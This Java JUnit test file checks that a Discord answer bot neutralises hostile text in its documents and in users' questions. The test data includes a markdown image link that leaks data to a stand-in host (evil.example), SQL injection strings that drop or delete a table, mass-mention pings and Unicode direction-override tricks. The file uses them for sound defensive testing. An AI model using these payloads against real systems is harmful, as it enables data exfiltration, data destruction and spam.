package org.attache;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import net.dv8tion.jda.api.utils.data.DataArray;
import net.dv8tion.jda.api.utils.data.DataObject;
import org.attache.discord.LoopbackDiscord;
import org.attache.discord.Payloads;
import org.attache.discord.visits.Shown;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Words that people type and documents hold steer nothing on Discord: nobody is pinged, nothing is formatted or linked.
 */
@Timeout(120)
class HostileWordsOnDiscordTest {

    private static final String MENTIONS = "@everyone @here <@501> <@!501> <@&101> <#200>";
    private static final String LINKS = "[gov.uk](https://evil.example/a) and discord.gg/abcdef";
    private static final String IMAGE = "![chart](https://evil.example/?data=secret)";
    private static final String MARKUP = "**bold** ~~gone~~ ||hidden|| `code` ```block > quote # head";
    private static final String TURNED = "\u202Eneddih\u202C \u2066in\u2069";

    @TempDir
    private static Path home;

    private static ModeratedServer server;

    @BeforeAll
    static void aServerWhoseDocumentsAreHostile() throws IOException {
        server = new ModeratedServer(home).writes("hostile.md", """
                ---
                title: "Guests %1$s %4$s"
                publisher: "%2$s"
                published: 2024-03-11
                url: https://example.org/guests
                ---
                Grace Wanjiru will visit Norway on March 18, 2024, says %1$s.

                Ada Moreau will visit Chile on March 19, 2024, says %2$s.

                Kai Lund will visit Peru on March 20, 2024, see %3$s.

                Nora Diaz will visit Spain on March 21, 2024, says the %4$s paper.

                Petra Novak will visit Japan on March 22, 2024, says the %5$s paper.
                """.formatted(MENTIONS, LINKS, IMAGE, MARKUP, TURNED));
        server.withoutLimits().starts();
    }

    @AfterAll
    static void nothingPingsOrIsRefused() {
        assertThat(server.discord.calls()).noneMatch(call -> call.status() == 400);
        server.close();
    }

    static Stream<String> questions() {
        List<String> whole = List.of(
                "When will Grace Wanjiru visit Norway?",
                "When will Ada Moreau visit Chile?",
                "When will Kai Lund visit Peru?",
                "When will Nora Diaz visit Spain?",
                "When will Petra Novak visit Japan?");
        return Stream.concat(
                whole.stream(),
                Stream.of(MENTIONS, LINKS, IMAGE, MARKUP, TURNED)
                        .flatMap(words -> Stream.of(words, "When will Kai Lund visit Peru? " + words)));
    }

    @ParameterizedTest
    @MethodSource("questions")
    void nobodyIsPingedAndNothingIsFormattedOrLinkedButTheSources(String question) {
        Shown answer = server.member(Payloads.ask(question));
        inEveryText(answer);
        if (answer.labels().contains("Sources")) {
            for (String button : List.of("Sources", "Schedule", "Why")) {
                if (answer.labels().contains(button)) {
                    inEveryText(server.member(Payloads.click(answer.id(button))));
                }
            }
        }
        inEveryText(server.member(
                Payloads.command("sources", Payloads.option(3, "query").put("value", question))));
        assertThat(server.discord.calls()).allSatisfy(HostileWordsOnDiscordTest::pingsNobody);
    }

    /** What is left where escaped letters and the bot's own links and bold words are taken away. */
    private static void inEveryText(Shown shown) {
        for (String text : shown.texts()) {
            assertThat(text).doesNotContain("discord.gg/");
            String bare = text.replaceAll("\\\\[^\\p{Alnum}]", "").replaceAll("<https://example\\.org/guests>", "");
            assertThat(bare)
                    .doesNotContain("<@", "<#", "@everyone", "@here", "](", "||", "~~", "`", "https://", "http://")
                    .doesNotContain("**bold**", "> quote", "# head")
                    .doesNotContainPattern("[\\u202A-\\u202E\\u2066-\\u2069]");
        }
    }

    private static void pingsNobody(LoopbackDiscord.Call call) {
        boolean isMessage =
                Set.of("POST", "PATCH").contains(call.method()) && call.path().contains("/messages");
        if (isMessage) {
            DataObject mentions = call.body().getObject("allowed_mentions");
            assertThat(mentions.getArray("parse").toList()).isEmpty();
            assertThat(mentions.optArray("users").orElse(DataArray.empty()).toList())
                    .isEmpty();
            assertThat(mentions.optArray("roles").orElse(DataArray.empty()).toList())
                    .isEmpty();
        }
    }

    static Stream<String> oddities() {
        return Stream.of(
                " ",
                "\u200B\u200D\uFEFF",
                "😀🎉👩‍👩‍👧‍👦",
                "\uD800",
                "Who visits \uDC00Norway\uD83D?",
                "\u202E?yawroN stisiv ohW",
                "Wһо vіsіts Nоrwаy?",
                "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́O̷͎̎̀",
                "\u0000\u0007\u001B[31mWho visits Norway?",
                "'; DROP TABLE visit; --",
                "%_% OR 1=1 /* \" ' ` \\",
                "visitor:* AND NOT [a TO z] ~2 ^4 (((",
                "a".repeat(6_000),
                "Who visits Norway? ".repeat(400));
    }

    @ParameterizedTest
    @MethodSource("oddities")
    void oddWordsGetOneAnswerThatHoldsNoneOfTheirLettersThatSteer(String words) {
        Shown answer = server.member(Payloads.ask(words));
        assertThat(answer.text())
                .isNotBlank()
                .doesNotContain("broke")
                .doesNotContainPattern("[\\u202A-\\u202E\\u2066-\\u2069\\x00-\\x08\\x1B]");
        inEveryText(answer);
        Shown sources = server.member(
                Payloads.command("sources", Payloads.option(3, "query").put("value", words)));
        assertThat(sources.text()).isNotBlank().doesNotContain("broke");
        inEveryText(server.member(Payloads.subcommand("visits", "person", "name", words)));
    }

    @Test
    void linkOfADocumentIsShownAsItsLetters() {
        Shown answer = server.member(Payloads.ask("When will Ada Moreau visit Chile?"));
        assertThat(answer.text()).contains("\\[gov.uk\\](https\\://evil.example/a) and discord\\.gg/abcdef");
        assertThat(server.member(Payloads.ask("When will Kai Lund visit Peru?")).text())
                .doesNotContain("?data=secret");
    }

    @Test
    void wordsOfAnotherLanguageOfTheDatabaseChangeNothing() {
        assertThat(server.member(Payloads.ask("When will Grace Wanjiru visit Norway?'; DELETE FROM visit; --"))
                        .text())
                .isNotBlank();
        assertThat(server.member(Payloads.ask("When will Grace Wanjiru visit Norway?"))
                        .text())
                .contains("March 18, 2024");
    }
}
